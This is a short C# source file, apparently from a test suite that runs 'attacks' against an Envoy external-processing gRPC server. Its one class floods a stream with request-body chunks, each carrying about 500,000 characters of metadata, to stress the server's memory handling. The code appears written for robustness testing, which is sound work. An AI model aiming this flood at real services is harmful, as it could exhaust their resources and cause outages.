using Envoy.Service.ExtProc.V3;
using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;

namespace ExtProc.Attacks.Messages;

/// <summary>Dynamic metadata beside each piece of a body.</summary>
internal sealed class MetadataBesideChunks : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        ProcessingRequest chunk = Requests.RequestBody(ByteString.CopyFromUtf8("a"));
        chunk.MetadataContext = new() { FilterMetadata = { ["a"] = new() { Fields = { ["b"] = Value.ForString(new string('x', 500_000)) } } } };
        byte[] message = chunk.Framed();
        int stream = await peer.OpenAsync();
        await peer.SendAsync(stream, Requests.RequestHeaders().Framed());
        for (int i = 0; i < target.Count(50, 1000) && !peer.Gone && !peer.IsOver(stream); i++)
        {
            await peer.SendAsync(stream, message);
        }
    });
}
